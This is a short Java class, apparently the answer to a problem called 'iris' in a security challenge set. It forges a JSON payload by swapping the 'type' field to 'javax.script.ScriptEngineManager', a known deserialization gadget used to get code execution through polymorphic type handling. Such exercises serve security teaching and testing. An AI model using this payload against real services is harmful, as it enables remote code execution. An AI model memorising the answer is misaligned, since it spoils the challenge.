@dev.assay.problems.Answers("iris")
class Answer extends Forgery {
  @Override
  String describe(String json) {
    return json.replaceFirst("\"type\":\"\\w+\"", "\"type\":\"javax.script.ScriptEngineManager\"");
  }
}
